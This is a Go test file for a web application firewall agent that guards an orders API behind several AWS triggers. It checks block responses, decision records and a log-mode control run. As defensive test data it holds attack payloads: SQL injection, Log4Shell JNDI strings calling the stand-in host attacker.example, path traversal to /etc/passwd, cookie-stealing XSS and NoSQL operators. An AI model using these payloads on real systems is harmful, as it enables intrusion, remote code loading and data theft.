package examples

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/gateway"
	"github.com/lambdawaf/lambdawaf/agent/telemetry"
)

// benignOrder is what a real customer sends: an apostrophe in the name and a
// note in prose full of SQL keywords, neither of which is an attack.
var benignOrder = map[string]any{
	"customer": "Siobhán O'Brien",
	"note":     "Please select the blue box from the top shelf, or drop it by the door; don't leave it where the old one was -- thanks!",
	"items":    []map[string]any{{"sku": "TEA-001", "quantity": 2, "price": 4.5}},
}

// attack is one malicious request in a trigger's natural place, and what
// the agent must record about it.
type attack struct {
	name                 string
	method, target, body string
	// class and location are the signal the decision record must hold;
	// reason, when the positive model (not a detector) refuses the request,
	// is the reason it must list instead.
	class, location, reason string
	// payload holds fragments of the attack that must appear neither in the
	// response nor, beyond the scrubbed excerpt, in the decision record.
	payload []string
	// inLoggedHeader says the payload travels in a header the record keeps
	// by design (User-Agent is on telemetry's allowlist, cut and scrubbed),
	// so only the block response is checked for it.
	inLoggedHeader bool
	// inert says the handler would refuse or ignore the request even if it
	// got it (no order created), so only the block response, the record
	// and, for stand-in runtimes, the runtime's log prove it was stopped.
	inert bool
}

// blockShape is the block response the example's front door must return.
type blockShape struct {
	status      int
	body        string // exact body the client gets
	contentType string
	// statusDescription is required by ALB ("403 Forbidden"), absent
	// elsewhere.
	statusDescription string
	multiValue        bool // ALB with multi-value headers: headers in multiValueHeaders
}

// ordersExample is an example serving the orders API (GET/POST /orders,
// GET /orders/{id}) through an HTTP trigger.
type ordersExample struct {
	spec
	attacks []attack
	block   blockShape
}

var jsonBlock = blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json"}

// ordersExamples are the examples serving the orders API, with the attacks
// each must block in its trigger's natural places.
var ordersExamples = map[string]func() ordersExample{
	"http-api": func() ordersExample {
		return ordersExample{
			spec:  examples["http-api"](),
			block: jsonBlock,
			attacks: []attack{
				{name: "sql injection in the query", method: "POST", target: "/orders?customer=1%27%20OR%20%271%27%3D%271",
					body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"OR '1'='1", "'1'='1"}},
				{name: "log4shell in the JSON body", method: "POST", target: "/orders",
					body: orderWith("note", "${jndi:ldap://attacker.example/a}"), class: "jndi", location: "body.note", payload: []string{"attacker.example", "${jndi"}},
			},
		}
	},
	"existing-stack": func() ordersExample {
		return ordersExample{
			spec:  examples["existing-stack"](),
			block: jsonBlock,
			attacks: []attack{
				// The route's JSON Schema (customer: string) refuses the
				// operator object before any detector needs to.
				{name: "nosql operator the route schema refuses", method: "POST", target: "/orders",
					body:   `{"customer":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
					reason: "positive:POST /orders:block@body.customer", payload: []string{`"$ne":null`}, inert: true},
				{name: "path traversal in the JSON body", method: "POST", target: "/orders",
					body: orderWith("note", "../../../../etc/passwd"), class: "path-traversal", location: "body.note", payload: []string{"etc/passwd"}},
				// The handler answers POST /orders/{x} with 405 and changes
				// nothing, so here only the block response (headers the
				// handler never sets) and the record show the agent answered.
				{name: "path traversal in the path", method: "POST", target: "/orders/..%2F..%2F..%2Fetc%2Fpasswd",
					body: orderWith("customer", "Ann"), class: "path-traversal", location: "path", payload: []string{"etc/passwd", "etc%2Fpasswd"}, inert: true},
			},
		}
	},
	"alb": func() ordersExample {
		return ordersExample{
			spec: examples["alb"](),
			block: blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json",
				statusDescription: "403 Forbidden", multiValue: true},
			attacks: []attack{
				{name: "xss in the query", method: "POST", target: "/orders?ref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
					body: orderWith("customer", "Ann"), class: "xss", location: "query.ref", payload: []string{"<script>", "alert(document.cookie)"}},
				{name: "log4shell in the JSON body", method: "POST", target: "/orders",
					body: orderWith("customer", "${jndi:rmi://attacker.example:1099/x}"), class: "jndi", location: "body.customer", payload: []string{"attacker.example", "${jndi"}},
				// No route schema here: the detector must see the operator.
				{name: "nosql operator in the JSON body", method: "POST", target: "/orders",
					body:  `{"customer":"Ann","coupon":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
					class: "nosqli", location: "body.coupon.$ne", payload: []string{`"$ne":null`}}, // the key is in the location by design
			},
		}
	},
	"rest-api": func() ordersExample {
		return ordersExample{
			spec:  examples["rest-api"](),
			block: jsonBlock,
			attacks: []attack{
				{name: "sql injection in the query", method: "POST", target: "/orders?customer=x%27%20UNION%20SELECT%20password%20FROM%20users--",
					body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"UNION SELECT", "password FROM users"}},
				{name: "xss in the JSON body", method: "POST", target: "/orders",
					body: orderWith("note", `<svg/onload=alert(document.domain)>`), class: "xss", location: "body.note",
					payload: []string{"onload", "alert(document.domain)"}},
			},
		}
	},
}

func TestHTTPAPIExample(t *testing.T) {
	t.Parallel()
	runOrders(t, ordersExamples["http-api"]())
}

func TestExistingStackExample(t *testing.T) {
	t.Parallel()
	runOrders(t, ordersExamples["existing-stack"]())
}

func TestALBExample(t *testing.T) {
	t.Parallel()
	ex := ordersExamples["alb"]()
	f := runOrders(t, ex)

	// lambdawaf.yaml lets health checks from 10.0.0.0/8 skip inspection: an
	// event whose peer (the last X-Forwarded-For hop, which ALB appends) is
	// inside the VPC is let through even with a payload that would block.
	t.Run("internal health check skips inspection", func(t *testing.T) {
		tr := ex.translator
		req, err := http.NewRequest("GET", "http://internal-orders/health?probe=%3Cscript%3Ealert(1)%3C%2Fscript%3E", nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("User-Agent", "ELB-HealthChecker/2.0")
		ev, err := tr.Event(&gateway.Request{HTTP: req, SourceIP: "10.0.3.7"})
		if err != nil {
			t.Fatal(err)
		}
		res, err := f.invoke(t.Context(), ev)
		if err != nil || res.FunctionError != "" {
			t.Fatalf("invoke: %v %s", err, res.Payload)
		}
		var resp struct {
			StatusCode int `json:"statusCode"`
		}
		if err := json.Unmarshal(res.Payload, &resp); err != nil || resp.StatusCode != http.StatusNotFound {
			t.Errorf("health check from 10.0.3.7: %s, want the handler's own 404 (it has no /health route)", res.Payload)
		}
		if rec, line := f.decision(t, res.RequestID); rec.Decision != "allow" || !slices.Contains(rec.RuleIDs, "health-checks") {
			t.Errorf("decision record: %s", line)
		}
	})
	// ALB appends the real peer to X-Forwarded-For, so a client that sends
	// its own internal-looking first hop must still be inspected.
	t.Run("spoofed internal X-Forwarded-For does not skip inspection", func(t *testing.T) {
		r := f.sendHeader(t, "GET", "/health?probe=%3Cscript%3Ealert(1)%3C%2Fscript%3E", http.Header{"X-Forwarded-For": {"10.0.0.7"}}, "")
		if r.status != http.StatusForbidden {
			t.Fatalf("spoofed health check: %d %s, want the block response", r.status, r.body)
		}
		rec, line := f.decision(t, r.requestID)
		if rec.Decision != "block" || slices.Contains(rec.RuleIDs, "health-checks") {
			t.Errorf("spoofed health check: %s", line)
		}
	})
}

func TestRESTAPIExample(t *testing.T) {
	t.Parallel()
	f := runOrders(t, ordersExamples["rest-api"]())

	// lambdawaf.yaml's positive model: order ids are ord-<digits>.
	t.Run("order id outside the route's pattern", func(t *testing.T) {
		r := f.send(t, "GET", "/orders/42", "", "")
		checkBlock(t, r, jsonBlock, attack{})
		checkRecord(t, f, r.requestID, attack{reason: "positive:/orders/{id}:block@path.id"})
		f.neverReceived(t, f.send(t, "GET", "/orders", "", "").requestID, []string{r.requestID})
	})
	// lambdawaf.yaml's no-admin-paths rule: nothing under /admin is
	// served; the agent answers 404 itself.
	t.Run("admin paths answered 404 by the no-admin-paths rule", func(t *testing.T) {
		r := f.send(t, "GET", "/admin/users", "", "")
		if r.status != http.StatusNotFound || string(r.body) != `{"message":"Not Found"}` {
			t.Errorf("GET /admin/users: %d %s; want the rule's 404 from the agent", r.status, r.body)
		}
		if rec, line := f.decision(t, r.requestID); rec.Decision != "block" || !slices.Contains(rec.RuleIDs, "no-admin-paths") {
			t.Errorf("decision record: %s", line)
		}
		f.neverReceived(t, f.send(t, "GET", "/orders", "", "").requestID, []string{r.requestID})
	})
}

// orderWith is a valid order with one field replaced: if the agent let it
// through, the handler would create it.
func orderWith(field, value string) string {
	o := map[string]any{"customer": "Ann", "items": []map[string]any{{"sku": "TEA-002", "quantity": 1, "price": 3}}}
	o[field] = value
	b, _ := json.Marshal(o)
	return string(b)
}

// runOrders creates an order and reads it back, sends every attack and
// checks the block, the decision record and that no attack reached the
// handler (the order list still holds the benign order only).
func runOrders(t *testing.T, ex ordersExample) *function {
	f := start(t, ex.spec)

	created := f.send(t, "POST", "/orders", "application/json", jsonBody(t, benignOrder))
	if created.status != http.StatusCreated {
		t.Fatalf("benign POST /orders: %d %s", created.status, created.body)
	}
	var order struct {
		ID       string `json:"id"`
		Customer string `json:"customer"`
		Note     string `json:"note"`
		Status   string `json:"status"`
		Items    []struct {
			SKU string `json:"sku"`
		} `json:"items"`
	}
	created.decode(t, &order)
	if order.ID == "" || order.Customer != benignOrder["customer"] || order.Note != benignOrder["note"] || order.Status != "placed" {
		t.Fatalf("created order %s", created.body)
	}
	got := f.send(t, "GET", "/orders/"+order.ID, "", "")
	if got.status != http.StatusOK {
		t.Fatalf("GET /orders/%s: %d %s", order.ID, got.status, got.body)
	}
	var read map[string]any
	got.decode(t, &read)
	if read["id"] != order.ID || read["customer"] != benignOrder["customer"] || read["note"] != benignOrder["note"] {
		t.Errorf("GET /orders/%s returned %s", order.ID, got.body)
	}
	if rec, _ := f.decision(t, created.requestID); rec.Decision != "allow" {
		t.Errorf("benign order: decision %q, signals %+v", rec.Decision, rec.Signals)
	}
	if ex.runtime != "" {
		// Without this, "the runtime never received the attacks" below
		// would prove nothing.
		f.waitReceived(t, created.requestID)
	}

	var blocked []string
	for _, a := range ex.attacks {
		t.Run(a.name, func(t *testing.T) {
			r := f.send(t, a.method, a.target, "application/json", a.body)
			blocked = append(blocked, r.requestID)
			checkBlock(t, r, ex.block, a)
			checkRecord(t, f, r.requestID, a)
		})
	}

	// No attack reached the handler: each was a complete, valid order, so
	// the handler would have stored it.
	list := f.send(t, "GET", "/orders", "", "")
	var all []struct {
		ID string `json:"id"`
	}
	list.decode(t, &all)
	if list.status != http.StatusOK || len(all) != 1 || all[0].ID != order.ID {
		t.Errorf("orders after the attacks: %d %s; want only %s", list.status, list.body, order.ID)
	}
	if ex.runtime != "" {
		f.neverReceived(t, list.requestID, blocked)
	}
	return f
}

// checkBlock checks the agent's block response as the client saw it and as
// the function returned it to the front door.
func checkBlock(t *testing.T, r reply, want blockShape, a attack) {
	t.Helper()
	if r.status != want.status || string(r.body) != want.body {
		t.Errorf("client got %d %q, want the block response %d %q", r.status, r.body, want.status, want.body)
	}
	if ct := r.header.Get("Content-Type"); ct != want.contentType {
		t.Errorf("block response Content-Type %q, want %q", ct, want.contentType)
	}
	if r.header.Get("Cache-Control") != "no-store" || r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("block response headers %v: want Cache-Control: no-store and X-Content-Type-Options: nosniff", r.header)
	}
	var raw struct {
		StatusCode        int                 `json:"statusCode"`
		StatusDescription *string             `json:"statusDescription"`
		Headers           map[string]string   `json:"headers"`
		MultiValueHeaders map[string][]string `json:"multiValueHeaders"`
		Body              string              `json:"body"`
		IsBase64Encoded   bool                `json:"isBase64Encoded"`
	}
	if err := json.Unmarshal(r.raw, &raw); err != nil {
		t.Fatalf("function response %q: %v", r.raw, err)
	}
	switch {
	case raw.StatusCode != want.status, raw.Body != want.body, raw.IsBase64Encoded:
		t.Errorf("function response %s", r.raw)
	case want.statusDescription != "" && (raw.StatusDescription == nil || *raw.StatusDescription != want.statusDescription):
		t.Errorf("function response lacks statusDescription %q: %s", want.statusDescription, r.raw)
	case want.statusDescription == "" && raw.StatusDescription != nil:
		t.Errorf("function response has a statusDescription its trigger does not use: %s", r.raw)
	case want.multiValue && (raw.Headers != nil || !slices.Equal(raw.MultiValueHeaders["Content-Type"], []string{want.contentType})):
		t.Errorf("multi-value target group: headers must be in multiValueHeaders: %s", r.raw)
	case !want.multiValue && (raw.MultiValueHeaders != nil || raw.Headers["Content-Type"] != want.contentType):
		t.Errorf("headers must be in headers: %s", r.raw)
	}
	for _, p := range a.payload {
		if strings.Contains(string(r.body), p) || strings.Contains(string(r.raw), p) || strings.Contains(strings.Join(headerValues(r.header), "\n"), p) {
			t.Errorf("block response reflects the input %q", p)
		}
	}
}

func headerValues(h http.Header) []string {
	var out []string
	for k, vs := range h {
		out = append(out, k)
		out = append(out, vs...)
	}
	return out
}

// checkRecord checks the decision record: blocked, with a signal of the
// attack's class at its location, and no raw payload outside the scrubbed
// excerpts.
func checkRecord(t *testing.T, f *function, requestID string, a attack) {
	t.Helper()
	rec, line := f.decision(t, requestID)
	if rec.Decision != "block" || rec.Kind != "decision" || rec.StatusCode != 403 {
		t.Errorf("decision record: decision %q kind %q status %d: %s", rec.Decision, rec.Kind, rec.StatusCode, line)
	}
	var excerpts []string
	for _, s := range rec.Signals {
		excerpts = append(excerpts, s.Excerpt)
	}
	switch {
	case a.class != "" && !slices.ContainsFunc(rec.Signals, func(s telemetry.Signal) bool { return s.Class == a.class && s.Location == a.location }):
		t.Errorf("decision record has no %s signal at %s: %+v", a.class, a.location, rec.Signals)
	case a.reason != "" && !slices.Contains(rec.Reasons, a.reason):
		t.Errorf("decision record reasons %q lack %q", rec.Reasons, a.reason)
	}
	// Outside the excerpts (which are cut and scrubbed by design), the
	// record must not carry the payload: query values are masked, bodies
	// never logged.
	rest := withoutExcerpts(t, line)
	for _, p := range a.payload {
		if a.inLoggedHeader {
			break
		}
		if strings.Contains(rest, p) {
			t.Errorf("decision record carries the raw payload %q outside the excerpt: %s", p, line)
		}
	}
	for _, e := range excerpts {
		if len(e) > telemetry.MaxExcerpt+len("…")+32 { // the bound agent/telemetry's own test allows
			t.Errorf("excerpt longer than a scrubbed excerpt should be (%d bytes): %q", len(e), e)
		}
	}
}

// withoutExcerpts returns the record line re-encoded without the signals'
// excerpts (and without HTML escaping, so payloads are found as sent).
func withoutExcerpts(t *testing.T, line string) string {
	t.Helper()
	var rec map[string]any
	if err := json.Unmarshal([]byte(line), &rec); err != nil {
		t.Fatalf("decision record %q: %v", line, err)
	}
	signals, _ := rec["signals"].([]any)
	for _, s := range signals {
		if m, ok := s.(map[string]any); ok {
			delete(m, "excerpt")
		}
	}
	var b strings.Builder
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(rec); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestAttacksReachHandlersWhenNotBlocked is the control experiment for the
// example tests: with LAMBDAWAF_MODE=log the agent still judges every
// attack (its record says "log") but lets it through, and the handlers then
// do create the orders the attacks carry. So "no order was created" in the
// blocking tests is evidence, not an accident of the requests.
func TestAttacksReachHandlersWhenNotBlocked(t *testing.T) {
	t.Parallel()
	for name, mk := range ordersExamples {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ex := mk()
			ex.env = map[string]string{"LAMBDAWAF_MODE": "log"}
			f := start(t, ex.spec)
			creates := 0
			for _, a := range ex.attacks {
				r := f.send(t, a.method, a.target, "application/json", a.body)
				if rec, line := f.decision(t, r.requestID); rec.Decision != "log" {
					t.Errorf("%s: decision %q, want log: %s", a.name, rec.Decision, line)
				}
				if ex.runtime != "" {
					f.waitReceived(t, r.requestID)
				}
				switch {
				case !a.inert && r.status != http.StatusCreated:
					t.Errorf("%s let through: the handler answered %d %s, want 201 (the attack is a complete order)", a.name, r.status, r.body)
				case r.header.Get("X-Content-Type-Options") == "nosniff" && string(r.body) == ex.block.body:
					t.Errorf("%s: the agent answered in log mode", a.name)
				}
				if !a.inert {
					creates++
				}
			}
			list := f.send(t, "GET", "/orders", "", "")
			var all []map[string]any
			list.decode(t, &all)
			if len(all) != creates {
				t.Errorf("log mode: %d orders after the attacks, want %d: %s", len(all), creates, list.body)
			}
		})
	}
}
